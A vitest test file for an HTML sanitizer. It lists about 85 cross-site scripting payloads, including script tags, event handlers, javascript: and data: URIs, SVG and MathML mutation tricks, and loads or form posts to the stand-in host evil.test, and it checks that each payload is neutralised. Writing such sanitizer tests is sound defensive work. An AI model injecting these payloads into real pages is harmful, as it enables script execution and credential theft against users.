import { expect, test } from 'vitest'
import { unsafeNodesIn } from '../../test/support/unsafe-nodes.ts'
import { renderHtml } from './render-html.server.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<script/src="data:,alert(1)"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="module">import "https://evil.test/x.js"</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x OnErRoR=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="x` `<script>alert(1)</script>"` `onload=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img srcset="x" onload="alert(1)">',
  '<picture><source srcset="x" onerror=alert(1)><img src=x></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="/" ping="https://evil.test">x</a>',
  '<a style="position:fixed;inset:0" href="https://evil.test">x</a>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.test"><input name=password><button>x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x poster="javascript:alert(1)" onloadstart=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<p onmouseover=alert(1)>x</p>',
  '<div onpointerrawupdate=alert(1)>x</div>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"; p { background: url(javascript:alert(1)) }</style>',
  '<p style="background:url(https://evil.test/x)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>',
  '<custom-element onconnected=alert(1)></custom-element>',
  '<slot onslotchange=alert(1)></slot>',
  '<dialog open onclose=alert(1)><form method=dialog></form></dialog>',
  '<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<p contenteditable onbeforeinput=alert(1)>x</p>',
  '<h2 onclick=alert(1)>Salt<script>alert(1)</script></h2>',
  '<pre><code class="language-html" onclick=alert(1)><img src=x onerror=alert(1)></code></pre>',
  '<table background="javascript:alert(1)"><caption onclick=alert(1)>x</caption></table>',
]

test('the list of attacks is long enough', () => {
  expect(new Set(attacks).size).toBeGreaterThanOrEqual(60)
})

test.each(attacks)('%j would harm a reader', (attack) => {
  expect(unsafeNodesIn(attack)).not.toEqual([])
})

test.each(attacks)('%j is harmless', async (attack) => {
  const { html } = await renderHtml(attack)
  expect(unsafeNodesIn(html)).toEqual([])
})

test.each(attacks)('%j is harmless when it is saved a second time', async (attack) => {
  const once = await renderHtml(attack)
  const twice = await renderHtml(once.html)
  expect(unsafeNodesIn(twice.html)).toEqual([])
})

test.each(['x" onmouseover="alert(1)', '"><img src=x onerror=alert(1)>', '</h2><script>'])(
  'the text %j of a heading cannot break out of the attributes it is copied to',
  async (words) => {
    const text = words.replaceAll('<', '&lt;')
    const source = `<h2>${text}</h2><table><caption>${text}</caption></table>`
    const { html } = await renderHtml(source)
    expect(unsafeNodesIn(html)).toEqual([])
  },
)

test.each(['x"onclick=alert(1)', 'ts><script>', "ts' onclick='alert(1)"])(
  'the language %j of a code block cannot break out of its label',
  async (language) => {
    const source = `<pre><code class='language-${language}'>salt</code></pre>`
    expect(unsafeNodesIn((await renderHtml(source)).html)).toEqual([])
  },
)

test('escaped text stays text', async () => {
  const { html } = await renderHtml('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')
  expect(html).toBe('<p>&#x3C;script>alert(1)&#x3C;/script></p>')
})
